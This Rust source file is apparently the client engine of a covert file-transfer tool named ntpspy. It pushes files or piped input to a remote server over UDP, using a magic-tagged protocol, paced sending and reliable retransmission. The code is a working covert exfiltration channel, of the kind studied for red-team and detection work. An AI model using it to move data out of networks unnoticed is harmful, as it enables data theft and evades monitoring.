// Copyright 2026 U.S. Federal Government (in countries where recognized)
// SPDX-License-Identifier: Apache-2.0

//! The covert transfer engine: builder, handshakes, and the windowed
//! send/retransmit loop.

use log::{debug, info, warn};
use std::collections::{HashMap, HashSet};
use std::io;
use std::net::SocketAddr;
use std::path::Path;
use std::time::{Duration, Instant};
use tokio::net::UdpSocket;

use ntpspy_proto::{
    chunk_count, AckOf, ChunkBitmap, Magic, Message, NakReason, DATAGRAM_MAX,
};

use crate::error::ClientError;
use crate::source::{stdin_name, BufSource, ChunkSource, FileSource};

/// Base retransmit interval; doubles per retry.
const DEFAULT_RTT_BASE: Duration = Duration::from_millis(500);

/// Ceiling on the exponential backoff.
const DEFAULT_BACKOFF_CAP: Duration = Duration::from_secs(8);

/// Send attempts for Start, End, and Query before giving up.
const DEFAULT_HANDSHAKE_RETRIES: u32 = 5;

/// Resend attempts per Data chunk before failing the file.
const DEFAULT_PER_CHUNK_RETRIES: u32 = 8;

/// Unacked chunks kept in flight at once.
const DEFAULT_WINDOW: usize = 32;

/// What a Query learned about the peer.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub struct ServerInfo {
    /// Covert protocol version the server speaks.
    pub version: u32,
    /// Capability bits (currently always 0).
    pub caps: u32,
}

/// Builder for configuring and creating an [`NtpSpyClient`].
pub struct NtpSpyClientBuilder {
    server: String,
    magic: Option<Magic>,
    rtt_base: Duration,
    backoff_cap: Duration,
    handshake_retries: u32,
    per_chunk_retries: u32,
    window: usize,
    min_interval: Duration,
}

impl NtpSpyClientBuilder {
    fn new() -> Self {
        NtpSpyClientBuilder {
            server: String::new(),
            magic: None,
            rtt_base: DEFAULT_RTT_BASE,
            backoff_cap: DEFAULT_BACKOFF_CAP,
            handshake_retries: DEFAULT_HANDSHAKE_RETRIES,
            per_chunk_retries: DEFAULT_PER_CHUNK_RETRIES,
            window: DEFAULT_WINDOW,
            min_interval: Duration::ZERO,
        }
    }

    /// Set the server address (`host:port`).
    pub fn server(mut self, addr: impl Into<String>) -> Self {
        self.server = addr.into();
        self
    }

    /// Set the shared magic discriminator. Required.
    pub fn magic(mut self, magic: Magic) -> Self {
        self.magic = Some(magic);
        self
    }

    /// Set the base retransmit interval (default 500 ms).
    pub fn rtt_base(mut self, d: Duration) -> Self {
        self.rtt_base = d;
        self
    }

    /// Set the retry budget for the Start/End/Query handshakes (default 5).
    pub fn handshake_retries(mut self, n: u32) -> Self {
        self.handshake_retries = n;
        self
    }

    /// Set the per-chunk retry budget (default 8).
    pub fn per_chunk_retries(mut self, n: u32) -> Self {
        self.per_chunk_retries = n;
        self
    }

    /// Set the sliding-window size in unacked chunks (default 32).
    pub fn window(mut self, chunks: usize) -> Self {
        self.window = chunks.max(1);
        self
    }

    /// Set the pacing interval: no two datagrams depart closer together
    /// than this (default 0). Pacing dominates every other scheduling
    /// decision, including retransmits.
    pub fn min_interval(mut self, d: Duration) -> Self {
        self.min_interval = d;
        self
    }

    /// Resolve the server address, bind a socket of the matching family,
    /// and build the client.
    pub async fn build(self) -> Result<NtpSpyClient, ClientError> {
        let magic = self.magic.ok_or_else(|| {
            ClientError::LocalIo(io::Error::new(
                io::ErrorKind::InvalidInput,
                "magic is required",
            ))
        })?;
        let peer = tokio::net::lookup_host(&self.server)
            .await?
            .next()
            .ok_or_else(|| {
                ClientError::LocalIo(io::Error::new(
                    io::ErrorKind::InvalidInput,
                    format!("{:?} resolved to no addresses", self.server),
                ))
            })?;
        let bind_addr = match peer {
            SocketAddr::V4(_) => "0.0.0.0:0",
            SocketAddr::V6(_) => "[::]:0",
        };
        let sock = UdpSocket::bind(bind_addr).await?;
        sock.connect(peer).await?;
        debug!("client socket {} -> {}", sock.local_addr()?, peer);
        Ok(NtpSpyClient {
            sock,
            peer,
            magic,
            rtt_base: self.rtt_base,
            backoff_cap: self.backoff_cap,
            handshake_retries: self.handshake_retries,
            per_chunk_retries: self.per_chunk_retries,
            window: self.window,
            min_interval: self.min_interval,
            next_transfer_id: 1,
            last_send: None,
            sent_names: HashSet::new(),
        })
    }
}

/// A covert transfer client bound to one server.
///
/// Created via [`NtpSpyClient::builder()`]. Performs one operation at a
/// time: a [`query`](NtpSpyClient::query) or a sequence of transfers.
pub struct NtpSpyClient {
    sock: UdpSocket,
    peer: SocketAddr,
    magic: Magic,
    rtt_base: Duration,
    backoff_cap: Duration,
    handshake_retries: u32,
    per_chunk_retries: u32,
    window: usize,
    min_interval: Duration,
    next_transfer_id: u32,
    last_send: Option<Instant>,
    sent_names: HashSet<String>,
}

/// Retransmit bookkeeping for one in-flight chunk.
struct Flight {
    last_send: Instant,
    retries: u32,
}

impl Flight {
    fn new() -> Self {
        Flight {
            last_send: Instant::now(),
            retries: 0,
        }
    }

    fn sent_now(&mut self) {
        self.last_send = Instant::now();
    }

    fn due(&self, rtt_base: Duration, cap: Duration) -> Instant {
        self.last_send + backoff_delay(rtt_base, self.retries, cap)
    }
}

/// `base × 2^retries`, capped.
fn backoff_delay(base: Duration, retries: u32, cap: Duration) -> Duration {
    let mut delay = base;
    for _ in 0..retries {
        if delay >= cap {
            break;
        }
        delay = (delay * 2).min(cap);
    }
    delay.min(cap)
}

/// Lowest chunk index that is neither acked nor in flight, scanning from
/// `cursor`. Advances the cursor past fully-handled prefixes.
fn next_unsent(
    acked: &ChunkBitmap,
    in_flight: &HashMap<u32, Flight>,
    cursor: &mut u32,
    total: u32,
) -> Option<u32> {
    while *cursor < total && (acked.get(*cursor) || in_flight.contains_key(cursor)) {
        *cursor += 1;
    }
    if *cursor < total { Some(*cursor) } else { None }
}

impl NtpSpyClient {
    /// Create a builder for configuring the client.
    pub fn builder() -> NtpSpyClientBuilder {
        NtpSpyClientBuilder::new()
    }

    /// The resolved server address.
    pub fn peer(&self) -> SocketAddr {
        self.peer
    }

    /// Probe the server for covert presence and version. Touches no
    /// session state on either side.
    pub async fn query(&mut self) -> Result<ServerInfo, ClientError> {
        let mut delay = self.rtt_base;
        for attempt in 0..self.handshake_retries {
            if attempt > 0 {
                debug!("query retry {attempt}");
            }
            self.send_msg(&Message::Query).await?;
            let deadline = Instant::now() + delay;
            while let Some(reply) = self.recv_msg(deadline).await? {
                if let Message::QueryReply { version, caps } = reply {
                    return Ok(ServerInfo { version, caps });
                }
            }
            delay = (delay * 2).min(self.backoff_cap);
        }
        Err(ClientError::NoContact)
    }

    /// Transfer one file from disk.
    pub async fn transfer_file(&mut self, path: &Path) -> Result<(), ClientError> {
        let mut source = FileSource::open(path)?;
        let base = path
            .file_name()
            .and_then(|n| n.to_str())
            .unwrap_or("unnamed");
        let name = self.fit_name(base);
        info!(
            "sending {} as {name:?} ({} bytes)",
            path.display(),
            source.total_size()
        );
        self.transfer(&mut source, name).await
    }

    /// Transfer an already-read byte buffer (piped stdin) under a
    /// timestamp-derived name.
    pub async fn transfer_buf(&mut self, data: Vec<u8>) -> Result<(), ClientError> {
        let mut source = BufSource::new(data);
        let name = self.fit_name(&stdin_name());
        info!("sending {} piped bytes as {name:?}", source.total_size());
        self.transfer(&mut source, name).await
    }

    /// Transfer an arbitrary chunk source under an already-fitted name.
    pub async fn transfer(
        &mut self,
        source: &mut dyn ChunkSource,
        name: String,
    ) -> Result<(), ClientError> {
        let total_size = source.total_size();
        let chunks = chunk_count(total_size);
        if chunks > u32::MAX as u64 {
            return Err(ClientError::TooLarge { size: total_size });
        }
        let total_chunks = chunks as u32;
        let crc = source.crc32c();
        let transfer_id = self.next_id();
        debug!("transfer {transfer_id}: {total_chunks} chunks, crc32c {crc:#010x}");

        self.start_handshake(transfer_id, total_size, &name).await?;

        let mut acked = ChunkBitmap::new(total_chunks);
        let mut restarted = false;
        loop {
            let result = match self.data_phase(source, transfer_id, &mut acked).await {
                Ok(()) => {
                    self.end_handshake(source, transfer_id, total_chunks, crc)
                        .await
                }
                Err(e) => Err(e),
            };
            match result {
                Ok(()) => {
                    info!("transfer {transfer_id} complete ({total_size} bytes)");
                    return Ok(());
                }
                // The server lost the session (restart or idle GC). One
                // fresh Start is allowed; chunks re-flow from the server's
                // MissingChunks hints.
                Err(ClientError::Rejected {
                    reason: NakReason::NoSession,
                }) if !restarted => {
                    restarted = true;
                    warn!("transfer {transfer_id}: server lost session state, restarting");
                    self.start_handshake(transfer_id, total_size, &name).await?;
                }
                Err(e) => return Err(e),
            }
        }
    }

    // ── handshakes ────────────────────────────────────────────────

    async fn start_handshake(
        &mut self,
        transfer_id: u32,
        total_size: u64,
        name: &str,
    ) -> Result<(), ClientError> {
        let msg = Message::Start {
            transfer_id,
            total_size,
            name: name.to_owned(),
        };
        let mut delay = self.rtt_base;
        for attempt in 0..self.handshake_retries {
            if attempt > 0 {
                debug!("start retry {attempt} for transfer {transfer_id}");
            }
            self.send_msg(&msg).await?;
            let deadline = Instant::now() + delay;
            while let Some(reply) = self.recv_msg(deadline).await? {
                match reply {
                    Message::Ack {
                        transfer_id: id,
                        of: AckOf::Start,
                    } if id == transfer_id => return Ok(()),
                    Message::Nak {
                        transfer_id: id,
                        reason,
                        ..
                    } if id == transfer_id => {
                        return Err(ClientError::Rejected { reason });
                    }
                    _ => {}
                }
            }
            delay = (delay * 2).min(self.backoff_cap);
        }
        Err(ClientError::NoContact)
    }

    async fn end_handshake(
        &mut self,
        source: &mut dyn ChunkSource,
        transfer_id: u32,
        total_chunks: u32,
        crc: u32,
    ) -> Result<(), ClientError> {
        let end = Message::End {
            transfer_id,
            total_chunks,
            crc32c: crc,
        };
        let mut delay = self.rtt_base;
        for attempt in 0..self.handshake_retries {
            if attempt > 0 {
                debug!("end retry {attempt} for transfer {transfer_id}");
            }
            self.send_msg(&end).await?;
            let deadline = Instant::now() + delay;
            while let Some(reply) = self.recv_msg(deadline).await? {
                match reply {
                    Message::Ack {
                        transfer_id: id,
                        of: AckOf::End,
                    } if id == transfer_id => return Ok(()),
                    Message::Nak {
                        transfer_id: id,
                        index,
                        reason,
                    } if id == transfer_id => match reason {
                        NakReason::MissingChunks => {
                            warn!(
                                "transfer {transfer_id}: server missing chunks from {index}, resending"
                            );
                            self.resend_from(source, transfer_id, total_chunks, index)
                                .await?;
                            break;
                        }
                        NakReason::ChecksumFailed => return Err(ClientError::ChecksumFailed),
                        other => return Err(ClientError::Rejected { reason: other }),
                    },
                    _ => {}
                }
            }
            delay = (delay * 2).min(self.backoff_cap);
        }
        Err(ClientError::Timeout {
            what: "end handshake".into(),
        })
    }

    // ── data phase ────────────────────────────────────────────────

    async fn data_phase(
        &mut self,
        source: &mut dyn ChunkSource,
        transfer_id: u32,
        acked: &mut ChunkBitmap,
    ) -> Result<(), ClientError> {
        let total = acked.capacity();
        let mut in_flight: HashMap<u32, Flight> = HashMap::new();
        let mut cursor: u32 = 0;

        while !acked.is_complete() {
            while in_flight.len() < self.window {
                match next_unsent(acked, &in_flight, &mut cursor, total) {
                    Some(index) => {
                        self.send_chunk(source, transfer_id, index, total).await?;
                        in_flight.insert(index, Flight::new());
                    }
                    None => break,
                }
            }

            let deadline = in_flight
                .values()
                .map(|f| f.due(self.rtt_base, self.backoff_cap))
                .min()
                .unwrap_or_else(|| Instant::now() + self.rtt_base);

            match self.recv_msg(deadline).await? {
                Some(Message::Ack {
                    transfer_id: id,
                    of: AckOf::Chunk(index),
                }) if id == transfer_id => {
                    if acked.in_range(index) {
                        acked.set(index);
                        in_flight.remove(&index);
                    }
                }
                Some(Message::Nak {
                    transfer_id: id,
                    index,
                    reason,
                }) if id == transfer_id => match reason {
                    NakReason::MissingChunks => {
                        // Explicit resend request; goes out immediately and
                        // does not consume window.
                        if acked.in_range(index) && !acked.get(index) {
                            self.send_chunk(source, transfer_id, index, total).await?;
                            in_flight.entry(index).or_insert_with(Flight::new).sent_now();
                        }
                    }
                    NakReason::ChecksumFailed => return Err(ClientError::ChecksumFailed),
                    other => return Err(ClientError::Rejected { reason: other }),
                },
                Some(_) => {}
                None => {
                    self.retransmit_expired(source, transfer_id, total, &mut in_flight)
                        .await?;
                }
            }
        }
        Ok(())
    }

    async fn retransmit_expired(
        &mut self,
        source: &mut dyn ChunkSource,
        transfer_id: u32,
        total: u32,
        in_flight: &mut HashMap<u32, Flight>,
    ) -> Result<(), ClientError> {
        let now = Instant::now();
        let expired: Vec<u32> = in_flight
            .iter()
            .filter(|(_, f)| now >= f.due(self.rtt_base, self.backoff_cap))
            .map(|(&index, _)| index)
            .collect();
        for index in expired {
            if let Some(flight) = in_flight.get_mut(&index) {
                flight.retries += 1;
                if flight.retries > self.per_chunk_retries {
                    return Err(ClientError::Timeout {
                        what: format!("chunk {index}"),
                    });
                }
                debug!("resending chunk {index} (retry {})", flight.retries);
            }
            self.send_chunk(source, transfer_id, index, total).await?;
            if let Some(flight) = in_flight.get_mut(&index) {
                flight.sent_now();
            }
        }
        Ok(())
    }

    async fn resend_from(
        &mut self,
        source: &mut dyn ChunkSource,
        transfer_id: u32,
        total: u32,
        from: u32,
    ) -> Result<(), ClientError> {
        for index in from..total {
            self.send_chunk(source, transfer_id, index, total).await?;
        }
        Ok(())
    }

    async fn send_chunk(
        &mut self,
        source: &mut dyn ChunkSource,
        transfer_id: u32,
        index: u32,
        total: u32,
    ) -> Result<(), ClientError> {
        let payload = source.read_chunk(index)?;
        let msg = Message::Data {
            transfer_id,
            index,
            payload,
            last: index + 1 == total,
        };
        self.send_msg(&msg).await
    }

    // ── socket plumbing ───────────────────────────────────────────

    /// Serialize and send one message, honoring the pacing interval first.
    async fn send_msg(&mut self, msg: &Message) -> Result<(), ClientError> {
        if !self.min_interval.is_zero() {
            if let Some(last) = self.last_send {
                let due = last + self.min_interval;
                let now = Instant::now();
                if due > now {
                    tokio::time::sleep(due - now).await;
                }
            }
        }
        let mut buf = [0u8; DATAGRAM_MAX];
        let len = msg.encode(self.magic, &mut buf).map_err(io::Error::from)?;
        self.sock.send(&buf[..len]).await?;
        self.last_send = Some(Instant::now());
        Ok(())
    }

    /// Receive the next covert message before `deadline`. Foreign and
    /// malformed datagrams are dropped without surfacing.
    async fn recv_msg(&self, deadline: Instant) -> Result<Option<Message>, ClientError> {
        let mut buf = [0u8; 2048];
        loop {
            let now = Instant::now();
            let Some(remaining) = deadline.checked_duration_since(now).filter(|d| !d.is_zero())
            else {
                return Ok(None);
            };
            match tokio::time::timeout(remaining, self.sock.recv(&mut buf)).await {
                Err(_) => return Ok(None),
                Ok(Err(e)) => return Err(ClientError::LocalIo(e)),
                Ok(Ok(n)) => match Message::decode(&buf[..n], self.magic) {
                    Ok(msg) => return Ok(Some(msg)),
                    Err(e) => {
                        debug!("ignoring {n}-byte datagram: {e}");
                    }
                },
            }
        }
    }

    fn next_id(&mut self) -> u32 {
        let id = self.next_transfer_id;
        self.next_transfer_id = self.next_transfer_id.checked_add(1).unwrap_or(1);
        id
    }

    /// Fit a filename to the wire, falling back to a hash-derived name if
    /// the deterministic truncation collides within this batch.
    fn fit_name(&mut self, name: &str) -> String {
        let mut fitted = ntpspy_proto::name::wire_name(name);
        if fitted != name && self.sent_names.contains(&fitted) {
            fitted = format!("{:08x}", crc32c::crc32c(name.as_bytes()));
        }
        self.sent_names.insert(fitted.clone());
        fitted
    }
}
